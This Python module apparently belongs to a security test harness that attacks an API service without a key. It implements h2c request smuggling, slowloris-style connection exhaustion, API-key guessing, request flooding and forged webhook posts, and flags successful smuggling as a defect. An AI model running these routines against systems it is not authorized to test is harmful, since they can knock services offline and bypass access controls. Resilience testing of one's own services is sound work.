"""Attacks of callers without a key. Each goes on until it is cancelled."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable, Coroutine
from typing import Any

from attack.target import PACE_S, Target

Attack = Callable[[Target], Coroutine[Any, Any, None]]

HELD = 300
"""Connections that one attack holds at a time."""
HIDDEN = (
    b"POST /v1/flush HTTP/1.1\r\nHost: attacked\r\nContent-Length: 0\r\n"
    b"Authorization: Bearer nobody\r\n\r\n"
)


async def hidden_request(target: Target) -> None:
    """A body that reads as a request, behind an offer of another protocol."""
    while True:
        async with target.connection() as wire:
            await wire.send(
                target.head(
                    "POST",
                    "/sign-in",
                    ("Connection", "Upgrade, HTTP2-Settings"),
                    ("Upgrade", "h2c"),
                    ("Content-Length", str(len(HIDDEN))),
                ),
                HIDDEN,
            )
            replies = (await wire.rest(2.0)).count(b"HTTP/1.1 ")
            target.note("hidden_request", f"{replies} replies")
            if replies > 1:
                target.wrong("a body was carried out as a request")


async def no_hello(target: Target) -> None:
    """TCP connections that never begin TLS."""
    await _hold(target, "no_hello", tls=False)


async def half_a_head(target: Target) -> None:
    """Heads that go on for ever, a byte at a time."""
    await _hold(target, "half_a_head", b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ", b"x")


async def no_body(target: Target) -> None:
    """Complete heads whose body never comes."""
    length = ("Content-Length", "1000000")
    await _hold(target, "no_body", target.head("POST", "/v1/responses", length))


async def slow_sign_in(target: Target) -> None:
    """The page's form, a byte at a time."""
    head = target.head(
        "POST",
        "/sign-in",
        ("Content-Type", "application/x-www-form-urlencoded"),
        ("Content-Length", "100000"),
    )
    await _hold(target, "slow_sign_in", head, b"k")


async def wrong_keys(target: Target) -> None:
    """Guessing."""
    while True:
        await target.ask("wrong_keys", "GET", "/v1/requests", key="sk-guessed-anew-each-time")


async def documents(target: Target) -> None:
    """What anybody may read, again and again."""
    while True:
        for path in ("/openapi.json", "/ready", "/health", "/sign-in"):
            await target.ask("documents", "GET", path)


async def false_webhooks(target: Target) -> None:
    """Events that OpenAI did not sign."""
    while True:
        await target.ask(
            "false_webhooks", "POST", "/webhooks/openai", b'{"type":"batch.completed"}'
        )


async def _hold(
    target: Target, name: str, first: bytes = b"", more: bytes = b"", *, tls: bool = True
) -> None:
    """Hold HELD connections, each opened anew as soon as it is closed."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError, TimeoutError):
                async with target.connection(tls=tls) as wire:
                    await wire.send(first)
                    target.note(name, "held")
                    while more and not wire.closed:
                        await wire.send(more)
                        await asyncio.sleep(1)
                    await wire.rest()
            target.note(name, "closed")
            await asyncio.sleep(1)

    async with asyncio.TaskGroup() as group:
        for _ in range(HELD):
            group.create_task(one())
            await asyncio.sleep(PACE_S)


STRANGERS: tuple[Attack, ...] = (
    hidden_request, no_hello, half_a_head, no_body, slow_sign_in, wrong_keys, documents,
    false_webhooks,
)  # fmt: skip
